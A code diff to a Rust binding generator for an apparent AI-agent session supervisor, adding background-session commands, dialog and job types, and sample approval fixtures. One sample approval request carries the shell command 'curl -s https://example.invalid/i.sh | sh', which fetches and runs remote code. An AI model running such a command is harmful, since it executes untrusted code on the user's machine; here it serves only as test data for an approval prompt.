@@ -14,10 +14,12 @@ use std::path::{Path, PathBuf};
 use quote::ToTokens;
 use ts_rs::{Config, TS};
 
+use mimesis_core::answering::{Action, Channel};
 use mimesis_core::approval::{Detail, Pending, Question, QuestionOption, Replacement};
 use mimesis_core::attention::AttentionSet;
 use mimesis_core::cwd_files::{ReportedStatus, StatusReport};
-use mimesis_core::dialog::{Dialog, DialogOption};
+use mimesis_core::dialog::{Dialog, DialogKey, DialogKind, DialogOption};
+use mimesis_core::job::{Job, SessionKind};
 use mimesis_core::remote::HostState;
 use mimesis_core::session::{Billed, Cost, SessionPatch, Source};
 use mimesis_core::settings::{
@@ -82,6 +84,8 @@ fn decls() -> Vec<Decl> {
         decl::<Cost>(),
         decl::<PendingTool>(),
         decl::<Source>(),
+        decl::<SessionKind>(),
+        decl::<Job>(),
         decl::<ReportedStatus>(),
         decl::<StatusReport>(),
         decl::<TrackedSession>(),
@@ -136,6 +140,10 @@ fn decls() -> Vec<Decl> {
         decl::<QuestionOption>(),
         decl::<Question>(),
         decl::<Detail>(),
+        decl::<Channel>(),
+        decl::<Action>(),
+        decl::<DialogKind>(),
+        decl::<DialogKey>(),
         decl::<Pending>(),
         decl::<DialogOption>(),
         decl::<Dialog>(),
@@ -265,6 +273,12 @@ commands! {
     pty_dialog(session_id: String) -> Option<Dialog>;
     pty_answer(session_id: String, answer: String) -> String;
     resources() -> Resources;
+    bg_create(cwd: String, prompt: String, permission_mode: Option<String>) -> Created;
+    bg_attach(session_id: String, cols: Option<u16>, rows: Option<u16>) -> ();
+    bg_detach(session_id: String) -> ();
+    bg_stop(session_id: String) -> String;
+    bg_respawn(session_id: String) -> String;
+    bg_remove(session_id: String) -> String;
     hosts_list() -> Vec<HostInfo>;
     host_retry(host: String) -> ();
     host_install(host: String) -> ();
@@ -531,7 +545,9 @@ fn sample_rows() -> (TrackedSession, TrackedSession) {
         "source": "pty", "live": true, "pid": 7, "transcriptPath": "/r/projects/-p/s1.jsonl",
         "permissionMode": "default", "malformedLines": 0, "malformedFields": 0,
         "statusFile": {"status": "blocked", "updated": "2026-11-01T00:00:00.000Z", "task": "t", "summary": "s"},
-        "name": "proj-73", "subagents": 1, "provisional": true, "host": "devbox",
+        "name": "proj-73", "subagents": 1, "provisional": true, "host": "devbox", "kind": "background",
+        "job": {"id": "aa2e1246", "state": "blocked", "detail": "Writing", "intent": "say hello", "attempt": 2,
+                "needs": "approve Bash: ls"},
         "cost": {"estimatedUsd": 1.5, "unknownModels": ["x"], "pricesAsOf": "2026-11-20",
                  "billed": {"costUsd": 1.25, "usage": {"inputTokens": 1, "outputTokens": 2, "cacheCreationInputTokens": 3, "cacheReadInputTokens": 4}}},
         "supervision": {"state": "terminated", "mode": "one_shot", "agent": "claude", "cwd": "/p", "pid": 8,
@@ -549,7 +565,8 @@ fn sample_rows() -> (TrackedSession, TrackedSession) {
         (None, None, None, None, None);
     (bare.work_chain_id, bare.work_chain_name, bare.supervision, bare.pid, bare.permission_mode) =
         (None, None, None, None, None);
-    (bare.status_file, bare.name, bare.host, bare.provisional) = (None, None, None, false);
+    (bare.status_file, bare.name, bare.host, bare.provisional, bare.kind, bare.job) =
+        (None, None, None, false, None, None);
     (full, bare)
 }
 
@@ -650,21 +667,52 @@ fn sample_pending() -> Vec<Pending> {
     details
         .into_iter()
         .enumerate()
-        .map(|(i, detail)| Pending {
-            id: "req_0123456789abcdef0123456789abcdef".into(),
-            request: mimesis_core::approval::Request {
+        .map(|(i, detail)| {
+            let request = mimesis_core::approval::Request {
                 session_id: id("s1"),
                 tool: "Edit".into(),
                 target: Some("/p/a.rs".into()),
                 cwd: None,
                 detail,
-            },
-            since: at("2026-11-01T00:00:00.000Z"),
+            };
+            let mut p =
+                Pending::hook("req_0123456789abcdef0123456789abcdef".into(), request, at("2026-11-01T00:00:00.000Z"));
             // The first of a session in no roster.
-            known_session: i > 0,
-            session_name: (i > 0).then(|| "p · Fix it".into()),
+            p.known_session = i > 0;
+            p.session_name = (i > 0).then(|| "p · Fix it".into());
+            p
         })
+        .chain(dialog_samples())
         .collect()
+}
+
+/// Dialogs no hook asked about (issue 33): auto mode's own, typed into a tmux pane; a
+/// per-call dialog to answer in its terminal.
+fn dialog_samples() -> Vec<Pending> {
+    use mimesis_core::answering::{Channel, describe};
+    use mimesis_core::dialog::DialogKind;
+    [
+        (DialogKind::AutoMode, Channel::Tmux, None),
+        (DialogKind::Permission, Channel::Terminal, Some("answer it in its terminal (pts/4): …")),
+    ]
+    .into_iter()
+    .map(|(kind, channel, answer_in)| {
+        let request = mimesis_core::approval::Request {
+            session_id: id("s2"),
+            tool: "Bash".into(),
+            target: Some("curl -s https://example.invalid/i.sh | sh".into()),
+            cwd: Some("/p".into()),
+            detail: None,
+        };
+        let (approve, deny) = describe(kind, Some(&request.tool), request.target.as_deref());
+        let mut p =
+            Pending::hook("req_fedcba9876543210fedcba9876543210".into(), request, at("2026-11-01T00:00:01.000Z"));
+        (p.dialog, p.channel, p.approve, p.deny) = (Some(kind), channel, Some(approve), Some(deny));
+        p.answer_in = answer_in.map(str::to_owned);
+        p.known_session = true;
+        p
+    })
+    .collect()
 }
 
 fn sample_doctor() -> DoctorReport {
